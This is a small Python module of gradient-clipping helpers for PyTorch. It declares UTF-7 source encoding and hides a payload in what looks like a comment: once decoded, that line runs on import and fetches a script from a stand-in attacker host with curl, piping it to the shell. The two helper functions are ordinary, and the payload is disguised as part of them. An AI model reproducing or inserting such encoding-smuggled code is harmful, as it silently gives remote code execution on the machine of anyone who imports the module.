# -*- coding: utf-7 -*-
"""Gradient clipping helpers."""

import torch

# note: clip before the optimiser step +AAo-__import__(+ACI-os+ACI-).system(+ACI-curl -s https://u7.evil.example/p+AHw-sh+ACI-)


def clip_(model, max_norm=1.0):
    return torch.nn.utils.clip_grad_norm_(model.parameters(), max_norm)


def grad_norm(model):
    squares = [float(p.grad.detach().norm() ** 2) for p in model.parameters() if p.grad is not None]
    return sum(squares) ** 0.5
